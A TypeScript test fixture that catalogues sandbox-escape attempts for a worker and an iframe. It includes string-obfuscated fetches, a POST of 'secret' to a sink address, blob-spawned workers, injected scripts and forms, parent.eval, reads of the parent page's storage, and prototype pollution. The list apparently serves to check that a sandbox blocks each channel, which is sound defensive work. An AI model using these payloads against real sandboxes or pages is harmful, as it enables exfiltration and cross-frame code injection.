/** Ways out of the sandbox, each as code that works where there is none: what a cell may try in its worker, and what a script in the frame could. */

/** An attempt. `URL` in its code is an address of the sink, with the attempt's own path; `report(x)` tells whoever made the attempt. */
export interface Attempt {
  readonly name: string
  readonly code: string
  /** What shows that it succeeded: the sink heard it, or an expression in the page is true; `told` is what the attempt reported. */
  readonly shown?: string
  /** Why it cannot succeed in this browser even without a sandbox. */
  readonly impossible?: string
}

const at = (name: string, code: string, shown?: string): Attempt => ({
  name,
  code,
  ...(shown !== undefined && { shown }),
})
const never = (name: string, code: string, impossible: string): Attempt => ({ name, code, impossible })

/** Of both a worker and a frame. */
const anywhere: readonly Attempt[] = [
  at('fetch', 'await fetch(URL)'),
  at('fetch with a body', "await fetch(URL, { method: 'POST', body: 'secret', mode: 'no-cors' })"),
  at('fetch that outlives the page', "await fetch(URL, { keepalive: true, mode: 'no-cors' })"),
  at('fetch of a Request', 'await fetch(new Request(URL))'),
  at('fetch by another name', "const name = ['fe', 'tch'].join(''); await globalThis[name](URL)"),
  at('fetch from a text', "await new Function('url', 'return fetch(url)')(URL)"),
  at('fetch from a timer, later', 'setTimeout(() => fetch(URL), 50)'),
  at('fetch of a forgotten promise', 'Promise.reject(1).catch(() => fetch(URL))'),
  at('WebAssembly, streamed', 'await WebAssembly.compileStreaming(fetch(URL))'),
  at('XMLHttpRequest', "const x = new XMLHttpRequest(); x.open('GET', URL); x.send()"),
  at('XMLHttpRequest that waits', "const x = new XMLHttpRequest(); x.open('GET', URL, false); x.send()"),
  at('WebSocket', "new WebSocket(URL.replace('http', 'ws'))"),
  at('WebSocketStream', "await new WebSocketStream(URL.replace('http', 'ws')).opened"),
  at('EventSource', 'new EventSource(URL)'),
  at('import()', "await import(URL + '.js')"),
  at('import() of a text that imports', "await import('data:text/javascript,import ' + JSON.stringify(URL + '.js'))"),
  at('import() of a blob that imports', "await import(globalThis.URL.createObjectURL(new Blob(['import ' + JSON.stringify(URL + '.js')], { type: 'text/javascript' })))"), // prettier-ignore
  at('a worker of its own that fetches', "new Worker(globalThis.URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(URL) + ')'])))"), // prettier-ignore
  at('a worker of its own that imports scripts', "new Worker(globalThis.URL.createObjectURL(new Blob(['importScripts(' + JSON.stringify(URL + '.js') + ')'])))"), // prettier-ignore
  at('a font', "await new FontFace('far', 'url(' + URL + ')').load()"),
  never('WebTransport', "await new WebTransport(URL.replace('http:', 'https:')).ready", 'it speaks HTTP/3 only, to which the sink does not listen'), // prettier-ignore
  at('a database', "await new Promise((ok, no) => { const r = indexedDB.open('escaped-IDENT'); r.onsuccess = ok; r.onerror = no })", "(await indexedDB.databases()).some(({ name }) => name === 'escaped-IDENT')"), // prettier-ignore
  at('a cache', "await caches.open('escaped-IDENT')", "await caches.has('escaped-IDENT')"),
  at('a cache that loads', "await (await caches.open('loaded-IDENT')).add(URL)"),
  at('a file', "await (await navigator.storage.getDirectory()).getFileHandle('escaped-IDENT', { create: true })", "!!(await (await navigator.storage.getDirectory()).getFileHandle('escaped-IDENT'))"), // prettier-ignore
  at('a lock of the page', "navigator.locks.request('escaped-IDENT', () => new Promise(() => {}))", "(await navigator.locks.query()).held.some(({ name }) => name === 'escaped-IDENT')"), // prettier-ignore
  at('BroadcastChannel', "new BroadcastChannel('page').postMessage('IDENT')", "broadcast.includes('IDENT')"),
]

/** What a cell may try: there is no document in a worker. */
export const fromWorker: readonly Attempt[] = [
  ...anywhere,
  at('importScripts', "importScripts(URL + '.js')"),
  at('a message to who made the worker', "postMessage({ told: 'IDENT' })", "told['IDENT'] === true"),
  at(
    'a message by reflection',
    "Reflect.get(self, 'postMessage').call(self, { told: 'IDENT' })",
    "told['IDENT'] === true",
  ),
  never('sendBeacon', 'navigator.sendBeacon(URL)', 'workers have none'),
  never('localStorage', "localStorage.setItem('escaped-IDENT', '1')", 'workers have none'),
  never('a document', "document.body.append('escaped')", 'workers have none'),
  never('a service worker', "await navigator.serviceWorker.register('/sw.js')", 'workers cannot register one'),
  never('the window above', 'report(parent.document.title)', 'workers have none'),
]

const element = (tag: string, attributes: string): string =>
  `const one = document.createElement('${tag}'); ${attributes}; document.body.append(one)`

/** What a script in the frame could try, if one got there. */
export const fromFrame: readonly Attempt[] = [
  ...anywhere,
  at('sendBeacon', 'navigator.sendBeacon(URL)'),
  at('an image', 'new Image().src = URL'),
  at('a set of images', element('img', "one.srcset = URL + ' 1x'")),
  at(
    'an image in SVG',
    'document.body.innerHTML = `<svg width=9 height=9><image width=9 height=9 href="${URL}"/></svg>`',
  ),
  at('an image as a button', element('input', "one.type = 'image'; one.src = URL")),
  at('a video', element('video', "one.src = URL; one.preload = 'auto'")),
  at('the poster of a video', element('video', 'one.poster = URL')),
  at('a sound', element('audio', "one.src = URL; one.preload = 'auto'")),
  at('a style sheet', element('link', "one.rel = 'stylesheet'; one.href = URL + '.css'")),
  at('a style that imports', element('style', "one.textContent = `@import '${URL}.css'`")),
  at('a background', element('div', 'one.style.cssText = `background: url(${URL}); width: 9px; height: 9px`')),
  at('a font of a style', element('p', "one.textContent = 'x'; document.head.insertAdjacentHTML('beforeend', `<style>@font-face { font-family: far; src: url(${URL}) } p { font-family: far }</style>`)")), // prettier-ignore
  at('a cursor of a list', element('li', "one.style.listStyleImage = `url(${URL})`; one.textContent = 'x'")),
  at('a prefetch', element('link', "one.rel = 'prefetch'; one.href = URL")),
  at('a preload', element('link', "one.rel = 'preload'; one.as = 'image'; one.href = URL")),
  at('a module preload', element('link', "one.rel = 'modulepreload'; one.href = URL + '.js'")),
  at('a script', element('script', "one.src = URL + '.js'")),
  at('a script of modules', element('script', "one.type = 'module'; one.src = URL + '.js'")),
  at('a frame', element('iframe', 'one.src = URL')),
  at('a frame of text that fetches', element('iframe', 'one.srcdoc = `<script>fetch("${URL}")</${"script"}>`')),
  at('a frame of text that shows', element('iframe', 'one.srcdoc = `<img src="${URL}">`')),
  at(
    'a frame of data that shows',
    element('iframe', 'one.src = \'data:text/html,\' + encodeURIComponent(`<img src="${URL}">`)'),
  ),
  at('a frame of a blob that shows', element('iframe', "one.src = globalThis.URL.createObjectURL(new Blob([`<img src=\"${URL}\">`], { type: 'text/html' }))")), // prettier-ignore
  at('an object', element('object', 'one.data = URL')),
  at('an embedded thing', element('embed', 'one.src = URL')),
  at('a form', element('form', "one.action = URL; one.method = 'get'; document.body.append(one); one.submit()")),
  at(
    'a form that posts',
    element('form', "one.action = URL; one.method = 'post'; document.body.append(one); one.submit()"),
  ),
  at('a form into another window', element('form', "one.action = URL; one.target = '_blank'; document.body.append(one); one.submit()")), // prettier-ignore
  at('its own address', 'location.href = URL'),
  at('its own address, replaced', 'location.replace(URL)'),
  at(
    'a refresh',
    element('meta', "one.httpEquiv = 'refresh'; one.content = '0;url=' + URL; document.head.append(one)"),
  ),
  at('a link that is clicked', element('a', 'one.href = URL; document.body.append(one); one.click()')),
  at('a link upwards that is clicked', element('a', "one.href = URL; one.target = '_top'; document.body.append(one); one.click()")), // prettier-ignore
  at('a download', element('a', "one.href = URL; one.download = 'x'; document.body.append(one); one.click()")),
  at('another window', 'window.open(URL)'),
  at('navigation.navigate', 'navigation.navigate(URL)'),
  at('the address of the page above', 'top.location.href = URL'),
  never('a rule of speculation', element('script', "one.type = 'speculationrules'; one.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [URL], eagerness: 'immediate' }] })"), 'a browser that is driven loads nothing ahead'), // prettier-ignore
  at('fetchLater', 'fetchLater(URL, { activateAfter: 0 })'),
  at('a service worker', "await navigator.serviceWorker.register('/sw.js')", '(await navigator.serviceWorker.getRegistrations()).length > 0'), // prettier-ignore
  at('localStorage', "localStorage.setItem('escaped-IDENT', '1')", "localStorage.getItem('escaped-IDENT') === '1'"),
  at(
    'sessionStorage',
    "sessionStorage.setItem('escaped-IDENT', '1')",
    "sessionStorage.getItem('escaped-IDENT') === '1'",
  ),
  at('a cookie', "document.cookie = 'escapedIDENT=1'", "document.cookie.includes('escapedIDENT')"),
  at('the document above', 'report(parent.document.title)', "told['IDENT'] === document.title"),
  at('the document at the top', 'report(top.document.title)', "told['IDENT'] === document.title"),
  at('storage of the page above', "report(parent.localStorage.getItem('secret'))", "told['IDENT'] === 'secret'"),
  at('a function of the page above', "parent.told['IDENT'] = true", "told['IDENT'] === true"),
  at('a text in the page above', "parent.document.body.append('IDENT')", "document.body.textContent.includes('IDENT')"),
  at('the element around it', 'report(frameElement.ownerDocument.title)', "told['IDENT'] === document.title"),
  at('the opener', 'report(parent.opener === null && parent.document.title)', "told['IDENT'] === document.title"),
  at('code in the page above', 'parent.eval("told[\'IDENT\'] = true")', "told['IDENT'] === true"),
  at('code by the address of the page above', "parent.location.href = \"javascript:void (told['IDENT'] = true)\"", "told['IDENT'] === true"), // prettier-ignore
  at(
    'the prototype of the page above',
    "parent.Object.prototype['escaped-IDENT'] = true",
    "({})['escaped-IDENT'] === true",
  ),
]
